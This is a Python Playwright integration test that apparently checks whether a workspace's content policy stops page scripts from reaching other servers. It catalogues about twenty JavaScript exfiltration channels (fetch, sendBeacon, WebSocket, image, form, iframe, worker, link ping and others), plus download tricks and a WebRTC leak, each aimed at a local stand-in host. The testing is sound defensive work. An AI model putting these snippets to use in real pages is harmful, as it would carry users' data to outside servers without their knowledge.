"""Every way by which a page's script could carry data to another server, tried in a workspace's page in Chromium.

Each is first done on a page without any policy, in the same browser, and must arrive: a form that does not work by
itself would prove nothing.
"""

from __future__ import annotations

import asyncio
import contextlib
import re
import shutil
import socket
import threading
from collections.abc import AsyncIterator, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.async_api import BrowserContext, Error, Frame, Page, async_playwright

from tests.integration.gate.conftest import BUDGET
from tests.integration.gate.harness import DOMAIN, QUICK, ZoneUnderTest, running
from tests.integration.gate.test_gate_frozen import Place
from tests.integration.gate.test_gate_origins_in_chromium import signed_in, workspace
from tests.patience import PATIENCE

pytestmark = [pytest.mark.browser, pytest.mark.long]

WAYS_OUT = {
    "location": "window.location = '{0}'",
    "location_top": "window.top.location = '{0}'",
    "location_parent": "window.parent.location = '{0}'",
    "open": "window.open('{0}')",
    "link_top": "const a = add('a'); a.href = '{0}'; a.target = '_top'; a.click()",
    "link_ping": "const a = add('a'); a.href = '#x'; a.ping = '{0}'; a.click()",
    "form": "const f = add('form'); f.action = '{0}'; f.submit()",
    "form_blank": "const f = add('form'); f.action = '{0}'; f.target = '_blank'; f.submit()",
    "meta": "const m = add('meta'); m.httpEquiv = 'refresh'; m.content = '0;url={0}'",
    "image": "new Image().src = '{0}'",
    "fetch": "fetch('{0}', {{mode: 'no-cors'}}).catch(() => 0)",
    "websocket": "new WebSocket('{0}'.replace('http', 'ws'))",
    "frame": "add('iframe').src = '{0}'",
    "frame_location": "add('iframe').contentWindow.location = '{0}'",
    "frame_top": "add('iframe').contentWindow.eval(\"top.location = '{0}'\")",
    "frame_outer": "add('iframe').contentWindow.eval(\"parent.location = '{0}'\")",
    "beacon": "navigator.sendBeacon('{0}', 'x')",
    "style": "const l = add('link'); l.rel = 'stylesheet'; l.href = '{0}'",
    "preload": "const l = add('link'); l.rel = 'preload'; l.as = 'fetch'; l.crossOrigin = ''; l.href = '{0}'",
    "script": "add('script').src = '{0}'",
    "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('{0}', {{mode: 'no-cors'}})\"])))",
}
DOWNLOADS = {
    "blob": "const a = add('a'); a.href = URL.createObjectURL(new Blob(['row'])); a.download = 'x.csv'; a.click()",
    "data": "const a = add('a'); a.href = 'data:text/csv,row'; a.download = 'x.csv'; a.click()",
}
PEER = (
    "(async () => {{ const p = new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:{0}'}}]}});"
    " p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); window.peer = p; }})()"
)
ADD = "const add = name => document.body.appendChild(document.createElement(name));"
SECONDS = 1.5  # for what would arrive; the control takes a fraction of it


class Receiver(ThreadingHTTPServer):
    """A server of somebody else that writes down who calls, and serves a page without a policy."""

    def __init__(self) -> None:
        self.calls: set[str] = set()
        super().__init__(("127.0.0.1", 0), _Handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()


class _Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        assert isinstance(self.server, Receiver)
        self.server.calls.add(self.path.partition("?")[0])
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<!doctype html><body>plain</body>")

    do_POST = do_GET  # noqa: N815 — the name is the base class's

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def receiver() -> Iterator[Receiver]:
    server = Receiver()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def apart(root: None, tmp_path_factory: pytest.TempPathFactory) -> Iterator[ZoneUnderTest]:
    yield from running(tmp_path_factory.mktemp("out"), Path("/nonexistent"), QUICK | BUDGET)


@pytest.fixture
async def opened(apart: ZoneUnderTest) -> AsyncIterator[tuple[BrowserContext, Place]]:
    """A browser and the workspace that eve has."""
    chromium = shutil.which("chromium")
    assert chromium is not None, "no Chromium on this machine: `make test` installs it"
    place = await workspace(apart, "eve", "gibleed")
    arguments = ["--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu"]
    arguments.append(f"--host-resolver-rules=MAP *.{DOMAIN} 127.0.0.1, MAP *.test 127.0.0.1")
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=chromium, args=arguments)
        yield await browser.new_context(), place
        await browser.close()
    place.hostile.stop()
    apart.control("DELETE", f"/workspaces/{place.ref}", {"reason": "test"})


async def do(frame: Frame | Page, script: str) -> None:
    """Run a script; one that leads its page away, or is not allowed to, ends with an error."""
    with contextlib.suppress(Error, TimeoutError):
        async with asyncio.timeout(SECONDS):
            await frame.evaluate("() => {" + ADD + script + "}")


async def plain(context: BrowserContext, receiver: Receiver) -> Page:
    page = await context.new_page()
    await page.goto(f"http://plain.test:{receiver.server_port}/page")
    return page


async def test_no_script_of_a_workspace_reaches_another_server(
    apart: ZoneUnderTest, opened: tuple[BrowserContext, Place], receiver: Receiver
) -> None:
    context, place = opened
    address = f"http://elsewhere.test:{receiver.server_port}"
    unproven = set()
    for name, way in WAYS_OUT.items():
        page = await plain(context, receiver)
        await do(page, way.format(f"{address}/control/{name}"))
        try:
            async with asyncio.timeout(PATIENCE / 10):
                while f"/control/{name}" not in receiver.calls:  # noqa: ASYNC110 — it tells nobody
                    await asyncio.sleep(0.02)
        except TimeoutError:
            unproven.add(name)
        await page.close()
    assert unproven == set()
    for name, way in WAYS_OUT.items():
        await place.hostile.dial(4)  # a page that is closed takes its connections with it
        page, frame = await signed_in(context, apart, place)
        await do(frame, way.format(f"{address}/out/{name}"))
        await asyncio.sleep(0.2)
        await page.close()
    await asyncio.sleep(SECONDS)
    assert {call for call in receiver.calls if call.startswith("/out/")} == set()


@pytest.mark.parametrize("name", DOWNLOADS)
async def test_no_script_of_a_workspace_leaves_a_file_on_the_machine(
    apart: ZoneUnderTest, opened: tuple[BrowserContext, Place], receiver: Receiver, name: str
) -> None:
    context, place = opened
    page = await plain(context, receiver)
    async with page.expect_download(timeout=PATIENCE * 1000):
        await do(page, DOWNLOADS[name])
    left: list[object] = []
    page, frame = await signed_in(context, apart, place)
    page.on("download", lambda download: left.append(download))
    await do(frame, DOWNLOADS[name])
    await asyncio.sleep(SECONDS)
    assert left == []


async def test_a_peer_connection_is_what_no_policy_stops_as_the_threat_model_says(
    apart: ZoneUnderTest, opened: tuple[BrowserContext, Place]
) -> None:
    context, place = opened
    _, frame = await signed_in(context, apart, place)
    with contextlib.closing(socket.socket(socket.AF_INET, socket.SOCK_DGRAM)) as server:
        server.bind(("127.0.0.1", 0))
        server.setblocking(False)
        await do(frame, PEER.format(server.getsockname()[1]))
        async with asyncio.timeout(PATIENCE):
            assert await asyncio.get_running_loop().sock_recv(server, 100)
    model = Path(__file__).parents[3] / "docs/explanation/threat-model.md"
    assert re.search(r"\*\*R2 WebRTC\.\*\*", model.read_text(encoding="utf-8"))
